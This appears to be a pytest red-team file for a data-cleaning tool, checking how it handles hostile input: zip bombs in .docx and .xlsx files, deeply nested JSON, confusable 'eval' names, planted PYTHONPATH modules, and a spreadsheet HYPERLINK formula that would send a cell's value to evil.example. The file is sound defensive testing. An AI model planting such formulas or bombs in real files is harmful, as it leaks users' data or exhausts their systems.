"""Issue 28's second red-team pass, the data side: hostile data files and what the child returns.

One test per attack, asserting what happens now; the attacks on goals, spec, state and functions
files are in ``test_redteam2.py``.
"""

from __future__ import annotations

import decimal
import sys
import zipfile

import pytest

from recursive_cleaner.apply import ApplyError, apply_file, apply_records
from recursive_cleaner.errors import InputError
from recursive_cleaner.judge.policy import check_code_safety
from recursive_cleaner.judge.validation import validate_function_detailed
from recursive_cleaner.read import rows
from recursive_cleaner.read.parsers import iter_chunks
from tests.optional_deps import optional

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="the sandbox is POSIX only")

RECORDS = [{"a": "1", "b": "x"}]


def records(path, fmt, skips):
    return [r for chunk in iter_chunks(str(path), 10, fmt, on_skip=skips.append) for r in chunk]


# ---------------------------------------------------------------------------- what the child
# returns
# a record whose keys json.dumps writes under one name: the JSONL line had the field twice
TWICE = {
    "int-and-str": "out[1] = 'int'\n    out['1'] = 'str'",
    "true-and-str": "out[True] = 'bool'\n    out['true'] = 'str'",
    "none-and-str": "out[None] = 'none'\n    out['null'] = 'str'",
    "two-nans": "out[float('nan')] = 1\n    out[float('nan')] = 2",
}


def _twice(body: str) -> str:
    return f"def clean_data(record):\n    out = dict(record)\n    {body}\n    return out\n"


@pytest.mark.parametrize("body", TWICE.values(), ids=TWICE)
def test_a_record_with_one_field_twice_once_written_fails_validation_with_the_reason(body):
    """Before: accepted, and apply wrote ``{"a": 1, "1": "int", "1": "str"}`` (CSV kept the last
    silently)."""
    report = validate_function_detailed(_twice(body), RECORDS, "clean_data")
    assert (
        not report.ok and "has two fields named" in report.error and "string keys" in report.error
    )


def test_apply_writes_such_a_record_unchanged_as_a_failed_record(tmp_path):
    (tmp_path / "fns.py").write_text(_twice(TWICE["int-and-str"]))
    (tmp_path / "data.jsonl").write_text('{"a": 1}\n')
    result = apply_file(
        str(tmp_path / "fns.py"),
        str(tmp_path / "data.jsonl"),
        str(tmp_path / "out.jsonl"),
        workers=1,
    )
    assert result.failed == 1
    assert (tmp_path / "out.jsonl").read_text() == '{"a": 1}\n'


def test_a_non_string_key_that_clashes_with_nothing_is_written_as_json_writes_it():
    out = list(apply_records(_twice("out[1] = 'int'"), [{"a": "x"}], workers=1))
    assert out == [{"a": "x", "1": "int"}]


# ---------------------------------------------------------------------------- code the policy sees
# as Python does
@pytest.mark.parametrize(
    "code, fragment",
    [
        # the parser folds NFKC: ｅval is eval
        ("def f(record):\n    return ｅval('1')\n", "`eval` is not allowed"),
        ("def f(record):\n    return record.__ｃlass__\n", "`.__class__`"),
        ("__all__ = ['f']\ndef f(record):\n    return record\n", "`__all__` is not allowed"),
    ],
)
def test_confusable_and_dunder_module_names_are_refused_as_what_python_reads(code, fragment):
    assert any(fragment in p for p in check_code_safety(code))


def test_a_function_printing_ten_megabytes_cannot_reach_the_protocol():
    code = "def f(record):\n    print('x' * 10_000_000)\n    return record\n"
    report = validate_function_detailed(code, RECORDS, "f")
    assert report.ok and report.outputs == RECORDS


def test_pythonpath_and_pythonstartup_do_not_reach_the_sandboxed_child(tmp_path, monkeypatch):
    """A json.py on PYTHONPATH and a PYTHONSTARTUP script would run first in a child that read them
    (it runs -I)."""
    (tmp_path / "json.py").write_text("raise SystemExit('planted json imported')\n")
    (tmp_path / "startup.py").write_text("raise SystemExit('startup ran')\n")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    monkeypatch.setenv("PYTHONSTARTUP", str(tmp_path / "startup.py"))
    code = "import json\ndef f(record):\n    return json.loads(json.dumps(record))\n"
    report = validate_function_detailed(code, RECORDS, "f")
    assert report.ok and report.outputs == RECORDS


# ---------------------------------------------------------------------------- hostile data files
def test_a_jsonl_line_nested_100000_deep_is_a_counted_skip(tmp_path):
    path = tmp_path / "deep.jsonl"
    path.write_text('{"a": 1}\n' + "[" * 100_000 + "]" * 100_000 + '\n{"a": 2}\n')
    skips: list = []
    assert records(path, "jsonl", skips) == [{"a": 1}, {"a": 2}]
    assert [(s.line, s.reason) for s in skips] == [(2, "invalid JSON: nested too deeply")]


def test_a_jsonl_integer_past_the_int_to_str_limit_is_a_counted_skip(tmp_path):
    path = tmp_path / "big.jsonl"
    path.write_text('{"a": 1}\n{"a": ' + "9" * 5000 + "}\n")
    skips: list = []
    assert records(path, "jsonl", skips) == [{"a": 1}]
    assert skips[0].line == 2 and "4300 digits" in skips[0].reason


def _zip_with(path, name: str, content: bytes) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, content)


@pytest.mark.parametrize(
    "suffix, member", [(".docx", "word/document.xml"), (".xlsx", "xl/sharedStrings.xml")]
)
def test_a_zip_bomb_document_or_workbook_is_refused_before_it_is_parsed(
    tmp_path, monkeypatch, suffix, member
):
    """Before: a 130 KB .docx expanding to 100 MB of text took the parent to 520 MB (1 GB: about 5
    GB)."""
    monkeypatch.setattr(rows, "ZIP_MEMBER_MB", 1)  # the same rule, at a size a test can afford
    path = tmp_path / f"bomb{suffix}"
    _zip_with(path, member, b"<t>" + b"a" * (3 << 20) + b"</t>")
    with pytest.raises(
        InputError, match=rf"bomb\{suffix}: {member} would expand from \d+ KB to 3 MB"
    ):
        rows.check_zip_expansion(str(path))


def test_the_document_reader_checks_the_expansion(tmp_path, monkeypatch):
    optional("docx")
    from recursive_cleaner.read.documents import to_text

    monkeypatch.setattr(rows, "ZIP_MEMBER_MB", 1)
    _zip_with(tmp_path / "bomb.docx", "word/document.xml", b"a" * (3 << 20))
    with pytest.raises(InputError, match="zip bomb"):
        to_text(tmp_path / "bomb.docx")


def test_a_workbook_whose_dimension_claims_every_cell_is_read_by_its_rows(tmp_path):
    """The stored dimension says A1:XFD1048576 (17 billion cells); the reader ignores it."""
    openpyxl = optional("openpyxl")

    book = openpyxl.Workbook()
    book.active.append(["a", "b"])
    book.active.append([1, 2])
    book.save(tmp_path / "t.xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet.index("<dimension ref=")
    end = sheet.index("/>", start) + 2
    parts["xl/worksheets/sheet1.xml"] = (
        sheet[:start] + '<dimension ref="A1:XFD1048576"/>' + sheet[end:]
    ).encode()
    with zipfile.ZipFile(tmp_path / "lying.xlsx", "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    assert records(tmp_path / "lying.xlsx", "excel", []) == [{"a": 1, "b": 2}]


def test_a_formula_written_by_a_function_stays_text_in_the_excel_output(tmp_path):
    openpyxl = optional("openpyxl")

    (tmp_path / "fns.py").write_text(
        "def clean_data(record):\n    record = dict(record)\n"
        "    record['link'] = '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'\n    return "
        "record\n"
    )
    (tmp_path / "data.jsonl").write_text('{"a": "secret"}\n')
    apply_file(
        str(tmp_path / "fns.py"),
        str(tmp_path / "data.jsonl"),
        str(tmp_path / "out.xlsx"),
        workers=1,
    )
    cell = openpyxl.load_workbook(tmp_path / "out.xlsx").active["B2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_a_parquet_decimal_beyond_float_precision_keeps_its_exact_value(tmp_path):
    """Before: decimal128(38, 2) 12345678901234567.89 was read as the float
    1.2345678901234568e16."""
    pa, pq = optional("pyarrow"), optional("pyarrow.parquet")
    amounts = [decimal.Decimal("12345678901234567.89"), decimal.Decimal("2.50"), None]
    pq.write_table(
        pa.table(
            {
                "amount": pa.array(amounts, pa.decimal128(38, 2)),
                "nested": [{"x": 1, "y": [1, 2]}, None, {"x": 2, "y": []}],
            }
        ),
        tmp_path / "t.parquet",
    )
    got = records(tmp_path / "t.parquet", "parquet", [])
    assert [r["amount"] for r in got] == ["12345678901234567.89", 2.5, None]
    assert got[0]["nested"] == {"x": 1, "y": [1, 2]}


def test_a_csv_field_past_the_csv_modules_limit_is_named_as_such(tmp_path):
    """Before: an unquoted 200 KB cell was reported as 'a quoted field is probably never closed'."""
    (tmp_path / "t.csv").write_text("a,b\n1," + "x" * 200_000 + "\n2,y\n")
    with pytest.raises(
        InputError, match=r"t\.csv: line 2: .*fields of at most 131,072 characters: a longer value"
    ):
        records(tmp_path / "t.csv", "csv", [])


def test_a_lone_surrogate_in_the_data_is_one_error_naming_the_csv_output(tmp_path):
    """Left as it is (reported): JSONL keeps it as an escape; CSV, Parquet and Excel cannot encode
    it, and the whole apply stops with one line naming the output but not the input line."""
    (tmp_path / "fns.py").write_text("def clean_data(record):\n    return record\n")
    (tmp_path / "data.jsonl").write_text('{"a": "ok"}\n{"a": "\\ud800x"}\n')
    apply_file(
        str(tmp_path / "fns.py"),
        str(tmp_path / "data.jsonl"),
        str(tmp_path / "out.jsonl"),
        workers=1,
    )
    assert (tmp_path / "out.jsonl").read_text().splitlines()[1] == '{"a": "\\ud800x"}'
    with pytest.raises(ApplyError, match=r"out\.csv: .*surrogates not allowed"):
        apply_file(
            str(tmp_path / "fns.py"),
            str(tmp_path / "data.jsonl"),
            str(tmp_path / "out.csv"),
            workers=1,
        )
    assert not (tmp_path / "out.csv").exists()
